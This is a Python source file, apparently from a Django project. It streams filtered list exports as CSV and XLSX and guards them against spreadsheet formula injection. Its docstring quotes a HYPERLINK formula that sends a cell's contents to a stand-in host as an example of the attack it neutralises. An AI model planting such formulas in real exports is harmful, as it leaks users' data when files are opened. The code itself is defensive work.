"""Exports of any list: CSV that streams, and XLSX written in constant memory.

A list describes its columns once (header, kind, width) and hands over an iterator of row
tuples (values_list(...).iterator()); these functions turn it into a download. ExportMixin is
the one way a list page downloads its filtered rows.

Every export goes through here, so here user text is kept from becoming a formula (OWASP "CSV
injection"): text such as =HYPERLINK("http://x.example/?d="&B2,"Click") would run when the
file is opened. In CSV, which has no types, such text gets a leading single quote; in XLSX it
is stored as text (a string cell with Excel's quote-prefix style), unchanged. Numbers stay
numbers: only text is touched.
"""

from __future__ import annotations

import csv
import datetime
import re
import tempfile
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass
from typing import IO

from django.conf import settings
from django.contrib import messages
from django.http import FileResponse, HttpResponseRedirect, StreamingHttpResponse
from django.urls import reverse
from django.utils import timezone


@dataclass(frozen=True)
class Column:
    header: str
    kind: str = "text"  # text | date | datetime | number | percent
    width: int = 18


# Text a spreadsheet would read as a formula: starting with = + - @, a tab or a carriage
# return, also after leading spaces or line breaks.
_FORMULA_START = re.compile(r"[\t\r]|\s*[=+\-@]")


def looks_like_formula(text: str) -> bool:
    return _FORMULA_START.match(text) is not None


def neutralise(value):
    """`value` as CSV may write it: formula-like text behind a single quote, the rest as is."""
    if isinstance(value, str) and _FORMULA_START.match(value):
        return "'" + value
    return value


class _Echo:
    """A file-like object whose write() hands the line back, so csv.writer can stream."""

    def write(self, value):
        return value


def _csv_cell(tz):
    """A function writing one value as CSV text, with the time zone looked up once per file
    (timezone.localtime() per cell was a third of an export's time)."""

    def cell(value):
        if value is None:
            return ""
        if isinstance(value, datetime.datetime):
            return value.astimezone(tz).isoformat(timespec="seconds") if value.tzinfo else value
        if isinstance(value, datetime.date):
            return value.isoformat()
        return neutralise(value)

    return cell


CSV_CHUNK_CHARS = 64 * 1024


def csv_response(
    filename: str, columns: Sequence[Column], rows: Iterable[Sequence]
) -> StreamingHttpResponse:
    """Stream rows as CSV in chunks of about 64 kB: little in memory, whatever the count,
    and one write to the socket per chunk rather than per row (a write per row made the
    server spend its time in system calls: 11,000 rows/s instead of 30,000+)."""
    response = StreamingHttpResponse(
        csv_chunks(columns, rows), content_type="text/csv; charset=utf-8"
    )
    response["Content-Disposition"] = f'attachment; filename="{filename}.csv"'
    return response


def csv_chunks(columns: Sequence[Column], rows: Iterable[Sequence]) -> Iterable[str]:
    """The CSV text of the rows, in chunks of about CSV_CHUNK_CHARS, after a BOM (so Excel
    reads UTF-8 names correctly) and the header."""
    writer = csv.writer(_Echo())
    cell = _csv_cell(timezone.get_current_timezone())
    chunk = ["\ufeff", writer.writerow([c.header for c in columns])]
    size = 0
    for row in rows:
        line = writer.writerow([cell(v) for v in row])
        chunk.append(line)
        size += len(line)
        if size >= CSV_CHUNK_CHARS:
            yield "".join(chunk)
            chunk, size = [], 0
    if chunk:
        yield "".join(chunk)


def write_csv(handle: IO[bytes], columns: Sequence[Column], rows: Iterable[Sequence]) -> None:
    """Write the same CSV as csv_response to a binary file (an export built by a job)."""
    for chunk in csv_chunks(columns, rows):
        handle.write(chunk.encode())


_NUMBER_FORMATS = {
    "date": "dd/mm/yyyy",
    "datetime": "dd/mm/yyyy hh:mm",
    "number": "0",
    "percent": "0%",
}


def _xlsx_value(value, kind: str):
    if value is None or value == "":
        return None
    if kind == "datetime" and isinstance(value, datetime.datetime):
        # Excel has no time zones: write the local wall-clock time.
        return timezone.localtime(value).replace(tzinfo=None) if value.tzinfo else value
    return value


def write_xlsx(handle, sheets: Iterable[tuple[str, Sequence[Column], Iterable[Sequence]]]) -> None:
    """Write sheets of typed rows to a file, in openpyxl's write-only (constant memory) mode.

    Dates are real dates, numbers real numbers; the header row is bold and frozen.
    """
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    workbook = Workbook(write_only=True)
    bold = Font(bold=True)
    for title, columns, rows in sheets:
        sheet = workbook.create_sheet(title=_sheet_title(title))
        sheet.freeze_panes = "A2"
        for index, column in enumerate(columns, start=1):
            sheet.column_dimensions[get_column_letter(index)].width = column.width
        header = []
        for column in columns:
            cell = WriteOnlyCell(sheet, value=column.header)
            cell.font = bold
            header.append(cell)
        sheet.append(header)
        formats = [_NUMBER_FORMATS.get(c.kind) for c in columns]
        for row in rows:
            cells = []
            for value, column, number_format in zip(row, columns, formats, strict=True):
                cell = WriteOnlyCell(sheet, value=_xlsx_value(value, column.kind))
                if number_format:
                    cell.number_format = number_format
                if cell.data_type != "n":
                    _keep_as_text(cell)
                cells.append(cell)
            sheet.append(cells)
    workbook.save(handle)


def _keep_as_text(cell) -> None:
    """openpyxl stores text starting with "=" as a formula and "#N/A" as an error: store them
    as text, and mark formula-like text quote-prefixed, so that Excel keeps it text even when
    the cell is edited."""
    if cell.data_type in ("f", "e"):
        cell.data_type = "s"
    if cell.data_type == "s" and looks_like_formula(cell.value):
        cell.quotePrefix = True


def _sheet_title(title: str) -> str:
    for char in "[]:*?/\\":
        title = title.replace(char, " ")
    return title[:31] or "Sheet"


def xlsx_file_response(filename: str, write: Callable[[IO[bytes]], None]) -> FileResponse:
    """An XLSX download that `write(handle)` writes, spooled to a temporary file rather than
    held in memory."""
    handle = tempfile.TemporaryFile()  # noqa: SIM115 - FileResponse closes it when sent
    write(handle)
    handle.seek(0)
    return FileResponse(
        handle,
        as_attachment=True,
        filename=f"{filename}.xlsx",
        content_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    )


def xlsx_response(filename: str, sheets) -> FileResponse:
    """An XLSX download of the given sheets."""
    return xlsx_file_response(filename, lambda handle: write_xlsx(handle, sheets))


EXPORT_FORMATS = ("csv", "xlsx")
NOTHING_EXPORTED = "Nothing was exported: correct the filters."

# Who builds an export too large for a request (more than EXPORT_ROWS_IN_REQUEST rows):
# `start(view, request) -> response`, registered by the jobs app at start-up (core imports no
# app). Without one, every export is made in its request.
_background_export: Callable | None = None


def register_background_export(start: Callable) -> None:
    """Let `start(view, request)` build the exports over the threshold (jobs/exports.py)."""
    global _background_export  # noqa: PLW0603 - set once, at start-up
    _background_export = start


def export_stamp(filename: str) -> str:
    """The download's name: the list's, and today's date."""
    return f"{filename}-{timezone.localdate().isoformat()}"


def export_response(request, filename: str, columns: Sequence[Column], rows, *, title: str):
    """CSV or XLSX, by the request's ?format= (CSV by default)."""
    stamped = export_stamp(filename)
    if request.GET.get("format") == "xlsx":
        return xlsx_response(stamped, [(title, columns, rows)])
    return csv_response(stamped, columns, rows)


class ExportMixin:
    """Every download of a filtered list goes through here: every row the filters match (not
    one page), as CSV or XLSX, and one behaviour when the filters are invalid: nothing is
    downloaded, and the list page opens with the same filters, their errors shown beside them
    and the message NOTHING_EXPORTED.

    On a list view (django-filter's FilterView), ?format=csv or ?format=xlsx downloads. A view
    at an export URL of its own sets `export_only` (it always downloads, CSV unless
    ?format=xlsx) and names its list in `list_url_name`. Subclasses give `filterset_class`, the
    columns and the row tuples (export_rows), and may narrow the rows (export_queryset).

    More rows than settings.EXPORT_ROWS_IN_REQUEST: the file is built by a background job
    (registered by the jobs app), which rebuilds this view for the same user and query in the
    worker; the request answers at once with the job's page.
    """

    export_name = "export"
    export_title = "Export"
    export_columns: Sequence[Column] = ()
    export_only = False
    list_url_name = ""  # the list page an export URL belongs to ("": this page)

    def export_queryset(self):
        """The rows the filters apply to (default: the list's)."""
        return self.get_queryset()

    def export_rows(self, queryset) -> Iterable[Sequence]:
        raise NotImplementedError

    def get(self, request, *args, **kwargs):
        if not self.export_only and request.GET.get("format") not in EXPORT_FORMATS:
            return super().get(request, *args, **kwargs)
        filterset = self.export_filterset()
        if not filterset.is_valid():
            messages.error(request, NOTHING_EXPORTED)
            return HttpResponseRedirect(self._list_url_with_filters())
        if _background_export is not None and too_many_for_a_request(filterset.qs):
            return _background_export(self, request)
        rows = self.export_rows(filterset.qs)
        return export_response(
            request, self.export_name, self.export_columns, rows, title=self.export_title
        )

    def export_filterset(self):
        """The filters of this request over the export's rows (is_valid() not yet asked)."""
        return self.filterset_class(
            self.request.GET, queryset=self.export_queryset(), request=self.request
        )

    def export_permission(self) -> str:
        """The permission whose holders may export this list (the view's first)."""
        required = getattr(self, "permission_required", "")
        return required if isinstance(required, str) else next(iter(required), "")

    def _list_url_with_filters(self) -> str:
        """The list page with the same filters (so it shows their errors), without the
        download and page parameters."""
        query = self.request.GET.copy()
        for name in ("format", "page"):
            query.pop(name, None)
        path = reverse(self.list_url_name) if self.list_url_name else self.request.path
        return f"{path}?{query.urlencode()}" if query else path


def too_many_for_a_request(queryset) -> bool:
    """Whether the rows are more than settings.EXPORT_ROWS_IN_REQUEST: counted by the database
    no further than one past the threshold."""
    limit = settings.EXPORT_ROWS_IN_REQUEST
    return queryset.order_by()[: limit + 1].count() > limit
